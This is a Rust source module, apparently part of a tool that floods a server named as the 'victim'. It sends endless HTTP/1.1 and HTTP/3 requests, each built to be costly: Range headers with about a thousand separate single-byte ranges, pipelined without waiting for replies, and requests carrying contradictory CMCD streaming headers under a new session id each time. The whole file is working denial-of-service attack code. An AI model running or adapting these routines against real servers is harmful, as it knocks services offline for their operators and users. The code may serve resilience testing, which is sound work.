//! Requests that are valid and cost the server more than they should.

use std::fmt::Write as _;
use std::io;

use tokio::io::AsyncWriteExt;

use super::Force;
use crate::wire::Head;

/// Ranges in one request.
const RANGES: u64 = 1_000;

/// Many small ranges, far enough apart that none can be joined, and single bytes.
fn head(force: &Force, turn: u64) -> Head {
    let mut ranges = format!("bytes={turn}-{turn}");
    if turn.is_multiple_of(2) {
        for range in 1..RANGES {
            let _ = write!(ranges, ",{0}-{0}", 3 * range);
        }
    }
    Head::get(force.victim.title.as_str()).with("range", &ranges)
}

pub(super) async fn ranges(force: &Force, number: usize) -> io::Result<()> {
    if number.is_multiple_of(2) {
        return over_quic(force, number, head).await;
    }
    let stream = force.tls(number, b"http/1.1").await?;
    let _open = force.tally.open();
    let (reading, mut writing) = tokio::io::split(stream);
    let sending = async {
        // Sends the next one before the answer to the last.
        for turn in 0.. {
            force.act().await;
            writing.write_all(&head(force, turn).http1()).await?;
        }
        Ok(())
    };
    tokio::select! {
        biased;
        ended = force.drain(reading) => ended,
        failed = sending => failed,
    }
}

/// Contradictory reports, each from a different session.
pub(super) async fn false_cmcd(force: &Force, number: usize) -> io::Result<()> {
    over_quic(force, number, |force, turn| {
        let (rate, buffer) =
            [(1, 0), (u32::MAX, 100), (4_000, u32::MAX)][usize::try_from(turn % 3).unwrap_or(0)];
        Head::get(force.victim.title.as_str())
            .with("range", "bytes=0-0")
            .with("cmcd-object", &format!("br={rate},d=1,ot=v,tb=1"))
            .with("cmcd-request", &format!("bl={buffer},dl=1,mtp=100,su"))
            .with("cmcd-session", &format!("sid=\"{number}-{turn}\",st=v,sf=d,pr=2"))
            .with("cmcd-status", "bs,rtp=1")
    })
    .await
}

/// Sends requests, and reads what comes back.
async fn over_quic(force: &Force, number: usize, head: impl Fn(&Force, u64) -> Head) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    for turn in 0.. {
        force.act().await;
        let (mut sending, response) = connection.open_bi().await?;
        sending.write_all(&head(force, turn).http3()).await?;
        sending.finish().map_err(io::Error::other)?;
        force.drain(response).await?;
    }
    Ok(())
}
